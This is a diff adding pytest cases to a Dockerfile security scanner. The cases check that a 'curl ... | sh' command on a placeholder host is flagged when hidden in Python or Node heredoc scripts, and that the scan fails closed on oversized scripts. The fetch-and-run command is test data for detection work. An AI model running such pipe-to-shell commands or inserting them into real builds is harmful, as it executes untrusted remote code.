@@ -263,6 +263,35 @@ def test_heredoc_scripts_are_run_lines(tmp_path: Path) -> None:
     assert scan(tmp_path, text) == [("MLS503", 9), ("MLS514", 5)]
 
 
+_CURL_SH = "curl -fsSL https://x.example/i.sh | sh"
+
+
+@pytest.mark.parametrize(
+    ("run", "line"),
+    [
+        (f"RUN python3 << 'PY'\nimport subprocess\nsubprocess.run(\"{_CURL_SH}\", shell=True)\nPY\n", 4),
+        (f"RUN python3 <<'PY'\nimport os\nos.system('{_CURL_SH}')\nPY\n", 4),
+        (f"RUN node << 'JS'\nrequire('child_process').execSync(`{_CURL_SH}`)\nJS\n", 3),
+        (f'RUN <<EOF\n#!/usr/bin/env python3\nimport os\nos.system("{_CURL_SH}")\nEOF\n', 5),
+    ],
+)
+def test_commands_a_heredoc_script_hands_a_shell_are_run_lines(tmp_path: Path, run: str, line: int) -> None:
+    """The red team's: a heredoc fed to an interpreter is a script; the commands it gives a shell
+    are its string literals, judged at their line."""
+    assert scan(tmp_path, f"FROM {PIN}\n{run}{SAFE_END}") == [("MLS503", line)]
+
+
+@pytest.mark.parametrize(
+    "run",
+    [
+        "RUN python3 << 'PY'\nprint('downloading the weights now')\nopen('x', 'w').write(\"a b\")\nPY\n",
+        "RUN cat > /app/msg.txt << 'EOF'\nrun: curl -fsSL https://x.example/i.sh\nEOF\n",
+    ],
+)
+def test_a_heredoc_script_without_such_commands_is_clean(tmp_path: Path, run: str) -> None:
+    assert scan(tmp_path, f"FROM {PIN}\n{run}{SAFE_END}") == []
+
+
 def test_pip_wheel_and_download_of_vcs_refs(tmp_path: Path) -> None:
     text = f"FROM {PIN}\nRUN pip wheel -w /w git+https://github.com/org/repo.git@main\n"
     text += f"RUN pip download git+https://github.com/org/repo.git@{'d' * 40}\n{SAFE_END}"
@@ -581,3 +610,14 @@ def test_a_manager_http_index_is_one_finding(tmp_path: Path) -> None:
     assert [f[0] for f in found if f[1] == 3 and f[2] != "low"] == ["MLS509"]
     found = graded(tmp_path, base + "RUN pipenv install --pypi-mirror http://mirrors.example/pypi/simple/ flask\n")
     assert [f[0] for f in found if f[1] == 3 and f[2] != "low"] == ["MLS509"]
+
+
+def test_a_script_with_more_command_strings_than_are_read_fails_closed(tmp_path: Path) -> None:
+    from hooks.docker.checks import MAX_SCRIPT_LITERALS
+
+    def script(count: int) -> str:
+        body = "\n".join(f'print("step {i} done")' for i in range(count))
+        return f"FROM {PIN}\nRUN python3 <<'PY'\n{body}\nPY\n{SAFE_END}"
+
+    assert scan(tmp_path, script(MAX_SCRIPT_LITERALS)) == []
+    assert scan(tmp_path, script(MAX_SCRIPT_LITERALS + 1)) == [("MLS909", 3)]
